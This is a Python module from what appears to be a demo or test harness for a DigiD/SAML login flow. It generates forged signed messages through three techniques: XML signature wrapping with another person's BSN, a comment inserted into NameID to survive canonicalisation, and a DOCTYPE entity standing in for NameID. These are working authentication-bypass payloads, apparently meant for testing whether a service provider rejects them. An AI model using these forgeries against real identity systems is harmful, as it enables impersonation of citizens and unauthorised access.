"""Faults made in the signed message by somebody without DigiD's key."""

from __future__ import annotations

import re
from copy import deepcopy

from lxml import etree

from demo.digid.faults.answer import OTHER_BSN
from demo.idp.forms import DS, PREFIXES, SAML, SAMLP, new_id

_NAME_ID = f".//{{{SAML}}}NameID"
_NAME_ID_TEXT = re.compile(rb"(<saml:NameID[^>]*>)([^<]*)(</saml:NameID>)")


def signature_wrapping(genuine: etree._Element) -> etree._Element:
    """Hides the genuine message in Extensions and puts a forged one around it, for somebody else.

    The signature still verifies for whoever looks up its reference by ID and then reads the outermost
    message.
    """
    forged, kept = deepcopy(genuine), deepcopy(genuine)
    for message in forged.iter(
        f"{{{SAMLP}}}ArtifactResponse", f"{{{SAMLP}}}Response", f"{{{SAML}}}Assertion"
    ):
        message.set("ID", new_id())
    for name_id in forged.iterfind(_NAME_ID):
        name_id.text = f"s00000000:{OTHER_BSN}"
    for inner in forged.findall(f".//{{{SAML}}}Assertion/{{{DS}}}Signature"):
        _parent(inner).remove(inner)
    signature = kept.find(f"{{{DS}}}Signature")
    if signature is not None:
        kept.remove(signature)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions", nsmap=PREFIXES)
    extensions.append(kept)
    forged.insert(2, extensions)
    return forged


def comment_in_name_id(genuine: etree._Element) -> etree._Element:
    """A comment inside the NameID, which canonicalisation leaves out: the signature stays good."""
    for name_id in genuine.iterfind(_NAME_ID):
        text = name_id.text or ""
        comment = etree.Comment("x")
        name_id.text, comment.tail = text[:-4], text[-4:]
        name_id.append(comment)
    return genuine


def document_type(sent: bytes) -> bytes:
    """A document type with an entity, which the NameID then uses."""
    declaration, _, rest = sent.partition(b"?>")
    found = _NAME_ID_TEXT.search(rest)
    value = found.group(2) if found else b""
    doctype = b'<!DOCTYPE soapenv:Envelope [<!ENTITY naam "' + value + b'">]>'
    return declaration + b"?>\n" + doctype + b"\n" + _NAME_ID_TEXT.sub(rb"\1&naam;\3", rest)


def _parent(element: etree._Element) -> etree._Element:
    parent = element.getparent()
    if parent is None:
        raise ValueError("the element stands alone")
    return parent
